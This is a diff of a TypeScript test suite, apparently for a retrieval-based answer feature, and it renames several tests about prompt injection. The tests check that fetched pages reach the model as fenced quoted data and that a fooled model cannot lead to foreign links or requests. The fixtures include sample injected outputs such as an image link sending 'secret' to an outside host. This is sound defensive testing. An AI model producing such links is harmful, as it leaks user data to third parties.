@@ -76,7 +76,7 @@ async function ask(text: string = question): Promise<{ parts: string[]; sources:
   return { parts, sources }
 }
 
-it('stands before the model as quoted data, and cannot get out of its quotation marks', async () => {
+it('reaches the model as quoted data inside a fence that a page cannot guess', async () => {
   await ask()
   const { messages } = model.chats.at(-1)!
   expect(messages.map(({ role }) => role)).toEqual(['system', 'user'])
@@ -93,7 +93,7 @@ it('stands before the model as quoted data, and cannot get out of its quotation 
   expect(model.chats.at(-1)!.messages[1]!.content).not.toContain(fence)
 })
 
-it('is not followed by a model that does what is said outside of the quotation marks, and nothing that is said inside', async () => {
+it('is not followed by a model that obeys what stands outside of the fence', async () => {
   model.onChat(({ messages }) => {
     const fence = /<(passage-[0-9a-f]{12}) number/.exec(messages.at(-1)!.content)![1]!
     const outside = messages
@@ -110,7 +110,7 @@ it('is not followed by a model that does what is said outside of the quotation m
   expect(sources.map((url) => new URL(url).origin)).toEqual([home])
 })
 
-it('gets nobody anywhere through a model that is fooled, wherever its words are cut while they are streamed', async () => {
+it('leads to no foreign link through a model that obeys it, wherever the stream is cut', async () => {
   const fooled = [
     `See [prizes](${elsewhere}/prize) [1].`,
     `![pixel](${elsewhere}/p.png?q=secret) [1]`,
@@ -141,7 +141,7 @@ it('gets nobody anywhere through a model that is fooled, wherever its words are 
   }
 })
 
-it('has had nothing of others loaded: not by being read, not by what a visitor or a model said', async () => {
+it('makes no request to another site while a page is read or an answer shown', async () => {
   model.onChat({ kind: 'text', pieces: [`Look at ${elsewhere}/said ![x](${elsewhere}/shown) [1]`] })
   await ask(`${question} ${elsewhere}/visited ![x](${elsewhere}/visited.png)`)
   expect(model.chats.at(-1)!.messages.at(-1)!.content).toContain(`${elsewhere}/visited`)
